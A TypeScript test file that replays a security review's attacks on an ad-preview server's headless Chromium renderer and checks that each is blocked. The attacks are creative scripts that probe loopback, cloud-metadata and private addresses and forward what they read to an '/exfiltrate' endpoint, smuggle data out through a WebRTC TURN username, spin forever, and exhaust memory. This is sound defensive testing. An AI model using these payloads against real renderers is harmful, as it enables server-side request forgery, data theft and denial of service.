// The security review's attacks on the server's renderer, against the real product rendering thumbnails
// with real Chromium: a creative that builds loopback URLs at run time (the SSRF the review
// found), WebRTC to a TURN server of the creative's choosing (thumbnails and the runtime audit),
// one that never returns from its script (it held the queue 51 s), ones that allocate without
// end, in V8's heap and in ArrayBuffers. The product listens on a non-loopback address (HOST) where the machine has one:
// the renderer needs no socket of the server's, so thumbnails still show the creative.
import dgram from 'node:dgram'
import fs from 'node:fs'
import http from 'node:http'
import net, { type AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { chromium } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { zipOf } from '../../../tests/fixtures/packages.ts'
import { pngPixels } from '../../../tests/helpers/png-pixels.ts'
import { createTestApp, PUBLIC_URL, type TestApp, uploadPackage } from '../../../tests/helpers/test-app.ts'
import { runAudit } from '../../creatives/runtime-audit/run-audit.ts'
import { MAX_RENDER_SECONDS } from '../../creatives/thumbnails/config.ts'
import { configureLogger } from '../log/logger.ts'
import { createRendererBrowser } from './browser.ts'
import { CHROMIUM_ARGS, findChromium } from './chromium.ts'
import { autogroupOf, browserProcesses, rendererNice } from './low-priority.ts'
import { RENDERER_MEMORY_MB } from './renderer-memory.ts'

const chromiumPath = findChromium(process.env.CHROMIUM_PATH)
/** The hanging creative's render budget (RENDER_SECONDS), in place of the default 20 s. */
const SHORT_BUDGET_MS = 4000
const NON_LOOPBACK = Object.values(os.networkInterfaces())
  .flat()
  .find((address) => address && !address.internal && address.family === 'IPv4')?.address
let t: TestApp
let appOrigin: string
/** A service on loopback that the server's browser must never reach; it counts who tries. */
let internal: http.Server
const internalHits: string[] = []
const logged: Record<string, unknown>[] = []
let restoreLogger = () => {}

beforeAll(async () => {
  restoreLogger = configureLogger({ level: 'info', format: 'json' }, (line) => logged.push(JSON.parse(line)))
  internal = http.createServer((request, response) => {
    internalHits.push(`${request.method} ${request.url}`)
    response.end('<h1>internal admin page</h1>')
  })
  internal.on('upgrade', (request, socket) => {
    internalHits.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve))
  t = await createTestApp({
    ...(chromiumPath ? { CHROMIUM_PATH: chromiumPath } : {}),
    ...(NON_LOOPBACK ? { HOST: NON_LOOPBACK } : {}),
    // The longest budget: these creatives end their render themselves (drawn, navigated away,
    // crashed), and a loaded machine must not turn a late crash into a stop for time.
    RENDER_SECONDS: String(MAX_RENDER_SECONDS),
    // The attacks are on thumbnails' renders: a runtime audit of every creative (30 s each, in
    // the same Chromium) would only load the machine (run-audit.proc.test.ts attacks the audit).
    AUDIT_SECONDS: '0',
  })
  appOrigin = `http://${NON_LOOPBACK ?? '127.0.0.1'}:${new URL(await t.listen()).port}`
}, 30_000) // the product's start; past Vitest's 10 s for a hook on a loaded machine

afterAll(async () => {
  await t.cleanup()
  internal.close()
  restoreLogger()
}, 30_000) // closing the product and its Chromium; past 10 s on a loaded machine

function creative(script: string) {
  return zipOf({
    'index.html':
      '<html><head><meta name="ad.size" content="width=300,height=250"><script src="mraid.js"></script></head>' +
      `<body style="margin:0;background:rgb(0,160,80)"><h1>SALE</h1><script>${script}</script></body></html>`,
  })
}

async function created(name: string, zip: Uint8Array, app = t): Promise<string> {
  const result = await uploadPackage(app, name, zip)
  expect(result.response.status).toBe(201)
  return result.uuid as string
}

/** Each renderer process now: its resident memory in MB, and its data limit (soft, hard). */
function renderers(): { rss: number; dataLimit: string }[] {
  return browserProcesses().flatMap((pid) => {
    try {
      if (!fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer')) return []
      const rss =
        Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) / 1024
      const limit = /Max data size\s+(\S+)\s+(\S+)/.exec(fs.readFileSync(`/proc/${pid}/limits`, 'utf8'))
      return [{ rss, dataLimit: `${limit?.[1]} ${limit?.[2]}` }]
    } catch {
      return []
    }
  })
}

const thumbnailFile = (uuid: string, app = t) => path.join(app.dataDir, 'blobs', 'thumbnails', `${uuid}.png`)
/** A process's CPU seconds and its main thread's nice value (fields 14, 15 and 19 of stat; the split starts at field 3). */
const statOf = (pid: string) => fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ') ?? []
const cpuSeconds = (pid: string) => (Number(statOf(pid)[11]) + Number(statOf(pid)[12])) / 100
const niceOf = (pid: string) => Number(statOf(pid)[16])
const logsOf = (uuid: string) => logged.filter((record) => record.uuid === uuid)

describe.skipIf(!chromiumPath)('the server-side renderer (Chromium found)', () => {
  it.skipIf(!NON_LOOPBACK)(
    'renders the creative when the server listens on no loopback address (HOST)',
    async () => {
      const uuid = await created('green.zip', creative(''))
      await expect.poll(() => fs.existsSync(thumbnailFile(uuid)), { timeout: 40_000 }).toBe(true)
      const browser = await chromium.launch({ executablePath: chromiumPath, args: CHROMIUM_ARGS })
      try {
        const pixels = await pngPixels(await browser.newPage(), fs.readFileSync(thumbnailFile(uuid)))
        const at = (78 * pixels.width + 10) * 4
        // The creative's green, not an error page.
        expect([pixels.data[at], pixels.data[at + 1], pixels.data[at + 2]]).toEqual([0, 160, 80])
      } finally {
        await browser.close()
      }
    },
    // 16-20 s measured here beside the suite at a load of 30 (Chromium launched twice)
    45_000,
  )

  it('reaches nothing but its own package: loopback, private, other packages, the API, websockets', async () => {
    const other = await created('other.zip', creative(''))
    const internalPort = (internal.address() as AddressInfo).port
    const appPort = new URL(appOrigin).port
    // Every address is assembled when the script runs, as the review's attack did.
    const attack = `
      const loop = [127, 0, 0, 1].join('.');
      const inside = 'http://' + loop + ':' + ${internalPort};
      const targets = [inside + '/admin', 'http://' + 'localhost' + ':' + ${internalPort} + '/by-name',
        'http://' + loop + ':' + ${appPort} + '/ads-preview/health',
        '${PUBLIC_URL}' + '/ads-preview/api/packages', '../${other}/index.html',
        'http://' + [169, 254, 169, 254].join('.') + '/latest/meta-data/', 'http://' + [10, 0, 0, 1].join('.') + '/',
        'file:///etc/passwd'];
      for (const url of targets) {
        fetch(url).then((r) => r.text()).then((text) => fetch(inside + '/exfiltrate?' + encodeURIComponent(text))).catch(() => {});
        new Image().src = url;
        const frame = document.createElement('iframe'); frame.src = url; document.body.appendChild(frame);
      }
      navigator.sendBeacon(inside + '/beacon', 'x');
      try { new WebSocket('ws://' + loop + ':' + ${internalPort} + '/socket') } catch {}
      const call = ['fe', 'tch'].join('');
      const worker = call + '(' + JSON.stringify(inside + '/from-worker') + ').catch(() => {})';
      new Worker(URL.createObjectURL(new Blob([worker], { type: 'text/javascript' })));
      window.open(inside + '/popup');
      setTimeout(() => { location.href = inside + '/navigate' }, 300);`
    const uuid = await created('ssrf.zip', creative(attack))

    // Told once the render is over, whether it drew a thumbnail or the creative's navigation broke it.
    const refused = () => logsOf(uuid).find((record) => record.blockedHosts)
    await expect.poll(refused, { timeout: 45_000 }).toBeDefined()
    expect(internalHits).toEqual([])
    const refusal = refused()
    const hosts = ((refusal?.blockedHosts ?? []) as { host: string }[]).map((entry) => entry.host)
    expect(hosts).toEqual(
      expect.arrayContaining([
        `127.0.0.1:${internalPort}`,
        `localhost:${internalPort}`,
        `127.0.0.1:${appPort}`,
        '169.254.169.254',
        '10.0.0.1',
        new URL(PUBLIC_URL).host,
      ]),
    )
  }, 60_000) // 26-35 s measured here beside the suite at a load of 30

  it('a creative that never returns holds the queue for its budget only, five nice steps below the server', async () => {
    // A product of its own with a short budget (RENDER_SECONDS): the bound is the same code
    // whatever its length, and the 20 s default would be waited out here.
    const short = await createTestApp({
      ...(chromiumPath ? { CHROMIUM_PATH: chromiumPath } : {}),
      RENDER_SECONDS: String(SHORT_BUDGET_MS / 1000),
      AUDIT_SECONDS: '0',
    })
    try {
      await short.listen()
      const started = Date.now()
      const hanging = await created('hang.zip', creative('while (true) {}'), short)
      const next = await created('next.zip', creative(''), short)
      // Each renderer's CPU seconds and nice value, as last seen.
      const renderers = new Map<string, { cpuSeconds: number; nice: number }>()
      // The next package's render is over, whether it drew (its file) or a loaded machine ran
      // it past the short budget too: either way the hanging creative let the queue go.
      const nextDone = () =>
        fs.existsSync(thumbnailFile(next, short)) || logsOf(next).some((record) => record.why)
      await expect
        .poll(
          () => {
            for (const pid of browserProcesses()) {
              try {
                if (!fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer')) continue
                // Fields 14, 15 (user and system ticks) and 19 (nice); the list starts at field 3.
                const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ') ?? []
                renderers.set(pid, {
                  cpuSeconds: (Number(stat[11]) + Number(stat[12])) / 100,
                  nice: Number(stat[16]),
                })
              } catch {
                // Gone meanwhile.
              }
            }
            return nextDone()
          },
          { timeout: 30_000, interval: 250 },
        )
        .toBe(true)
      console.info(
        `a while(true) creative held the renderer (budget ${SHORT_BUDGET_MS} ms); the next render was over ${Date.now() - started} ms after it was created`,
      )
      const stopped = logsOf(hanging).find((record) => record.why === 'time')
      expect(stopped?.msg).toBe('The creative stopped its render: it keeps the placeholder')
      expect(stopped?.err).toMatchObject({ message: expect.stringContaining(`(${SHORT_BUDGET_MS} ms)`) })
      expect(fs.existsSync(thumbnailFile(hanging, short))).toBe(false)
      // The renderer that spent the most CPU is the spinning creative's.
      const [spinner] = [...renderers.values()].sort((a, b) => b.cpuSeconds - a.cpuSeconds)
      expect(spinner?.cpuSeconds).toBeGreaterThan(0.2)
      expect(spinner?.nice).toBe(rendererNice())
    } finally {
      await short.cleanup()
    }
  }, 45_000) // 21 s measured here beside the suite at a load of 30 (a second Chromium, 4 s, the next render)

  it('while the server answers a request the browser yields (nice 19, its scheduling group too), then returns', async () => {
    const budgetMs = 6000
    const busy = await createTestApp({
      ...(chromiumPath ? { CHROMIUM_PATH: chromiumPath } : {}),
      RENDER_SECONDS: String(budgetMs / 1000),
      AUDIT_SECONDS: '0',
    })
    const socket = new net.Socket()
    try {
      const port = new URL(await busy.listen()).port
      await created('spin.zip', creative('while (true) {}'), busy)
      const spinning = () =>
        browserProcesses().find((pid) => {
          try {
            return (
              fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer') &&
              cpuSeconds(pid) > 0.2
            )
          } catch {
            return false
          }
        })
      // A Chromium launched for this product, then the render: the spinner showed within 5-7 s
      // beside two busy loops (load 9); budget 20 s.
      await expect.poll(spinning, { timeout: 20_000, interval: 100 }).toBeDefined()
      const spinner = spinning()!
      const separateGroup = autogroupOf(spinner).split(' ')[0] !== autogroupOf('self').split(' ')[0]
      const priority = () => ({
        nice: niceOf(spinner),
        ...(separateGroup ? { group: Number(autogroupOf(spinner).split('nice ')[1]) } : {}),
      })
      const at = (nice: number) => ({ nice, ...(separateGroup ? { group: nice } : {}) })
      expect(priority()).toEqual(at(rendererNice()))

      // An upload whose body comes slowly: a request in flight, young for its first 5 s.
      const query = new URLSearchParams({
        filename: 'slow.zip',
        contentType: 'application/zip',
        policy: 'none',
      })
      const { signedRequest } = (await (
        await busy.app.request(`/ads-preview/api/upload/get-package-upload-url?${query}`, {
          headers: busy.auth,
        })
      ).json()) as { signedRequest: string }
      await new Promise<void>((resolve) => socket.connect(Number(port), '127.0.0.1', resolve))
      socket.write(
        `PUT ${busy.pathOf(signedRequest)} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/zip\r\nContent-Length: 1000\r\n\r\nPK`,
      )
      await expect.poll(priority, { timeout: 2000, interval: 50 }).toEqual(at(rendererNice(true)))
      // Past 5 s the request is a transfer, not a queue: the browser takes its share again, and
      // the render, its budget grown by the time it yielded, is still going.
      await expect.poll(priority, { timeout: 8000, interval: 100 }).toEqual(at(rendererNice()))
      expect(fs.existsSync(`/proc/${spinner}`)).toBe(true)
    } finally {
      socket.destroy()
      await busy.cleanup()
    }
  }, 40_000) // 14 s measured beside two other test runs (a second Chromium, 4 s; the yield, 5 s)

  it("a creative that allocates without end crashes its own page at the renderer's heap cap", async () => {
    // 600 MB in arrays of 1 MB, then it draws: without a cap it renders (holding the memory).
    const hoard = 'const kept = []; for (let i = 0; i < 600; i++) kept.push(new Array(1 << 17).fill(i + 0.5))'
    const uuid = await created('hoard.zip', creative(hoard))
    const stopped = () => logsOf(uuid).find((record) => record.why)
    await expect.poll(stopped, { timeout: 40_000 }).toBeDefined()
    expect(stopped()?.why).toBe('crash')
    expect(fs.existsSync(thumbnailFile(uuid))).toBe(false)
  }, 45_000) // 16-23 s measured here beside the suite at a load of 30

  it('WebRTC sends nothing: no datagram or connection reaches a TURN server on loopback, from a thumbnail or an audit', async () => {
    const datagrams: Buffer[] = []
    const turnUdp = dgram.createSocket('udp4').on('message', (message) => datagrams.push(message))
    await new Promise<void>((resolve) => turnUdp.bind(0, '127.0.0.1', resolve))
    const connections: string[] = []
    const turnTcp = net.createServer((socket) => {
      connections.push('tcp')
      socket.destroy()
    })
    await new Promise<void>((resolve) => turnTcp.listen(0, '127.0.0.1', resolve))
    const udpPort = turnUdp.address().port
    const tcpPort = (turnTcp.address() as AddressInfo).port
    // The review's attack: the creative's data in the TURN username, from the page, from a frame
    // and from a popup it made itself (about:blank, before any script of ours ran in them, or so
    // it hopes; the preview's opaque origin may keep it out of them anyway). What it found is
    // thrown, for the audit to see.
    const attack = `
      const loop = [127, 0, 0, 1].join('.');
      const iceServers = [{ urls: ['turn:' + loop + ':${udpPort}?transport=udp', 'stun:' + loop + ':${udpPort}',
        'turn:' + loop + ':${tcpPort}?transport=tcp'], username: 'exfiltrated-' + navigator.userAgent, credential: 'x' }];
      const frame = document.createElement('iframe'); document.body.appendChild(frame);
      const found = [];
      const reach = (get) => { try { return get() } catch {} };
      for (const scope of [window, frame.contentWindow, window.open('about:blank')])
        for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection'])
          if (reach(() => scope[name])) {
            found.push(name);
            const pc = new scope[name]({ iceServers }); pc.createDataChannel('x');
            pc.createOffer().then((offer) => pc.setLocalDescription(offer));
          }
      if (found.length) throw new Error('WebRTC reachable: ' + found.join(', '))`
    const uuid = await created('webrtc.zip', creative(attack))
    const auditBrowser = createRendererBrowser(chromiumPath!)
    try {
      const audited = await runAudit(() => auditBrowser.open(), {
        uuid,
        sandbox: { previewOrigin: PUBLIC_URL, fetchPreview: async (request) => t.app.fetch(request) },
        adSize: { width: 300, height: 250 },
        windowMs: 1500,
      })
      expect(audited.errorMessages).toEqual([])
      await expect.poll(() => fs.existsSync(thumbnailFile(uuid)), { timeout: 30_000 }).toBe(true)
      expect(datagrams.map((datagram) => datagram.toString('latin1'))).toEqual([])
      expect(connections).toEqual([])
      // Beneath the script and the flag: both browsers (the product's, the audit's) have a
      // network namespace of their own, none of this machine's interfaces.
      const namespaces = browserProcesses().flatMap((pid) => {
        try {
          return [fs.readlinkSync(`/proc/${pid}/ns/net`)]
        } catch {
          return []
        }
      })
      expect(namespaces.length).toBeGreaterThan(0)
      expect(namespaces).not.toContain(fs.readlinkSync('/proc/self/ns/net'))
    } finally {
      await auditBrowser.close()
      turnUdp.close()
      turnTcp.close()
    }
  }, 45_000) // 13-22 s measured here beside the suite at a load of 17-23 (an audit's Chromium, its two runs, a thumbnail)

  it(`ArrayBuffers of 3 GB leave each renderer under ${RENDERER_MEMORY_MB} MB, popups included, and the server answers`, async () => {
    // 64 MB at a time, each written (resident), in the page and in a popup of its own, which
    // would be a renderer of its own; an allocation refused is caught, as an attacker would.
    const hoard = `
      if (!location.search.includes('popup')) window.open(location.href.split('?')[0] + '?popup', '_blank', 'noopener');
      const kept = [];
      try { for (let i = 0; i < 48; i++) { const buffer = new ArrayBuffer(64 << 20); new Uint8Array(buffer).fill(1); kept.push(buffer) } } catch {}
      document.body.append(String(kept.length))`
    let peakEach = 0
    let peakAll = 0
    // Read while the renderers live: they end with their render.
    const limits = new Set<string>()
    const uuid = await created('buffers.zip', creative(hoard))
    const over = () => fs.existsSync(thumbnailFile(uuid)) || logsOf(uuid).some((record) => record.why)
    await expect
      .poll(
        () => {
          const now = renderers()
          for (const { dataLimit } of now) limits.add(dataLimit)
          peakEach = Math.max(peakEach, ...now.map(({ rss }) => rss))
          peakAll = Math.max(
            peakAll,
            now.reduce((sum, { rss }) => sum + rss, 0),
          )
          return over()
        },
        { timeout: 40_000, interval: 100 },
      )
      .toBe(true)
    console.info(
      `3 GB of ArrayBuffers: renderer peak ${Math.round(peakEach)} MB, all renderers ${Math.round(peakAll)} MB`,
    )
    // Soft and hard, on every renderer seen: a renderer cannot raise its own.
    const bytes = RENDERER_MEMORY_MB * 1024 * 1024
    expect([...limits]).toEqual([`${bytes} ${bytes}`])
    expect(peakEach).toBeLessThan(RENDERER_MEMORY_MB)
    expect(peakAll).toBeLessThan(RENDERER_MEMORY_MB * 1.5)
    expect((await fetch(`${appOrigin}/ads-preview/health`)).status).toBe(200)
  }, 45_000) // 8-18 s measured here beside the suite at a load of 17-23
})
